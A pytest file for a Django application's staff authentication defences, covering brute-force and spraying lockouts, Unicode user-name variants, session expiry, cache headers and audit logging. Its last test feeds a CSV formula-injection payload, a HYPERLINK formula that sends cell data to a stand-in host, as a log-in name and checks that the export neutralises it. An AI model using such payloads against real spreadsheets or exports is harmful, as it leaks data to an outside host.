"""Every way in passes the same checks: lock-outs, audit, trusted devices, session limits."""

import time

import pytest
from django.contrib.auth import get_user_model
from django.test import Client

from scoring.auth import DEVICE_COOKIE
from scoring.models import AuditEvent, Role, StaffRole

PASSWORD = "the-right-password-2024"
FORMS = {"site": "/accounts/login/", "admin": "/admin/login/"}


@pytest.fixture
def staff(db):
    User = get_user_model()
    admin = User.objects.create_user("admin", password=PASSWORD, is_staff=True,
                                     is_superuser=True)
    reviewer = User.objects.create_user("reviewer", password=PASSWORD)
    StaffRole.objects.create(user=reviewer, role=Role.REVIEWER)
    return {"admin": admin, "reviewer": reviewer}


def attempt(client, way, username, password, address="10.0.0.1"):
    response = client.post(FORMS[way], {"username": username, "password": password},
                           REMOTE_ADDR=address)
    return response


def signed_in(client) -> bool:
    return "_auth_user_id" in client.session


def events():
    return list(AuditEvent.objects.order_by("pk").values_list("action", "detail", "count"))


@pytest.mark.parametrize("way", ["site", "admin"])
def test_brute_force_on_every_log_in_form_is_refused_after_the_limit_and_audited(staff, way):
    client = Client()
    for _ in range(5):
        assert attempt(client, way, "admin", "guess").status_code == 200
    refused = attempt(client, way, "admin", PASSWORD)
    assert refused.status_code == 200 and not signed_in(client)
    assert "Quá nhiều lần đăng nhập sai. Vui lòng đợi 15 phút rồi thử lại." in \
        refused.content.decode()
    for _ in range(30):
        attempt(client, way, "admin", PASSWORD)
    failed = {"username": "admin", "via": way}
    assert events() == [("login_failed", failed, 1)] * 5 + [
        ("login_locked", {**failed, "reason": "locked"}, 31)]


@pytest.mark.parametrize("way", ["site", "admin"])
@pytest.mark.parametrize("variant", ["ａｄｍｉｎ", "Admin", "ADMIN ", "ＡＤＭＩＮ"])
def test_unicode_and_case_variants_count_against_the_same_account(staff, way, variant):
    client = Client()
    for name in ["admin", variant, "admin", variant, "admin"]:
        attempt(client, way, name, "guess")
    # NFKC makes the full-width name "admin": Django would sign it in, so it must be locked too
    assert attempt(client, way, "ａｄｍｉｎ", PASSWORD).status_code == 200
    assert not signed_in(client)
    assert attempt(client, way, variant, PASSWORD).status_code == 200
    assert not signed_in(client)
    assert AuditEvent.objects.filter(action="login_failed").count() == 5


@pytest.mark.parametrize("way", ["site", "admin"])
def test_a_stranger_cannot_lock_a_staff_account_out(staff, way, settings):
    settings.LOGIN_SLOW_SECONDS = 1
    owner = Client()
    assert attempt(owner, way, "admin", PASSWORD, address="10.1.1.1").status_code == 302
    assert owner.cookies[DEVICE_COOKIE].value
    owner.post("/accounts/logout/")
    # A stranger from one address locks only that address out of the account...
    stranger = Client()
    for _ in range(8):
        attempt(stranger, way, "admin", "guess", address="10.9.9.9")
    assert not signed_in(stranger)
    # ...and from many addresses only slows it for browsers that never signed in to it.
    for i in range(settings.LOGIN_ACCOUNT_CEILING):
        attempt(Client(), way, "admin", "guess", address=f"10.8.0.{i}")
    assert attempt(owner, way, "admin", PASSWORD, address="10.1.1.1").status_code == 302
    assert signed_in(owner)
    newcomer = Client()
    slowed = attempt(newcomer, way, "admin", PASSWORD, address="10.7.0.1")
    assert not signed_in(newcomer)
    assert ("Tài khoản này bị đăng nhập sai quá nhiều lần. Vui lòng đợi 1 giây rồi thử lại."
            in slowed.content.decode())
    time.sleep(settings.LOGIN_SLOW_SECONDS + 0.2)  # untrusted browsers: one try per second
    assert attempt(newcomer, way, "admin", PASSWORD, address="10.7.0.1").status_code == 302


def test_one_client_spraying_many_accounts_is_locked_out(staff, settings):
    settings.LOGIN_CLIENT_FAILURE_LIMIT = 6
    client = Client()
    for i in range(6):
        attempt(client, "site", f"user{i}", "guess")
    assert attempt(client, "site", "reviewer", PASSWORD).status_code == 200
    assert not signed_in(client)
    assert attempt(Client(), "site", "reviewer", PASSWORD, address="10.0.0.2"
                   ).status_code == 302


def test_a_successful_log_in_is_audited_the_same_way_on_the_admin(staff):
    client = Client()
    assert attempt(client, "admin", "admin", PASSWORD).status_code == 302
    assert events() == [("login", {"via": "admin"}, 1)]


def test_staff_sessions_end_after_a_working_day_without_a_request(staff, settings,
                                                                   monkeypatch):
    client = Client()
    attempt(client, "site", "reviewer", PASSWORD)
    assert client.get("/review/").status_code == 200
    assert client.session.get_expiry_age() == 8 * 3600
    now = time.time()
    monkeypatch.setattr(time, "time", lambda: now + 7 * 3600)
    assert client.get("/review/").status_code == 200  # each request starts the day afresh
    assert client.session.get_expiry_age() == 8 * 3600
    monkeypatch.setattr(time, "time", lambda: now + 14 * 3600)
    assert client.get("/review/").status_code == 200
    monkeypatch.setattr(time, "time", lambda: now + 22 * 3600 + 5)
    response = client.get("/review/")
    assert response.status_code == 302 and response.url.startswith("/accounts/login/")
    assert not signed_in(client)


def test_sessions_of_people_who_can_enter_the_admin_end_with_the_browser(staff):
    client = Client()
    attempt(client, "admin", "admin", PASSWORD)
    assert client.session.get_expire_at_browser_close()
    cookie = client.cookies["sessionid"]
    assert cookie["max-age"] == "" and cookie["expires"] == ""


@pytest.mark.parametrize("path", ["/review/", "/review/audit/", "/review/audit.csv", "/admin/",
                                  "/accounts/login/"])
def test_staff_pages_are_never_stored_by_a_browser_or_proxy(staff, path):
    client = Client()
    if path != "/accounts/login/":
        attempt(client, "site", "admin", PASSWORD)
    response = client.get(path)
    assert response.status_code == 200
    assert "no-store" in response["Cache-Control"] and "private" in response["Cache-Control"]


def test_the_audit_download_neutralises_a_typed_log_in_name(staff):
    import csv
    import io

    evil = '=HYPERLINK("http://x/?"&A1,"x")'
    attempt(Client(), "site", evil, "wrong")
    client = Client()
    attempt(client, "site", "admin", PASSWORD)
    response = client.get("/review/audit.csv")
    assert response.status_code == 200
    body = b"".join(response.streaming_content) if response.streaming else response.content
    cells = [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for cell in row]
    assert [cell for cell in cells if cell[:1] in "=+-@\t\r" and cell] == []
    assert any(f"«{evil}»" in cell for cell in cells)  # the name is there, inside the sentence
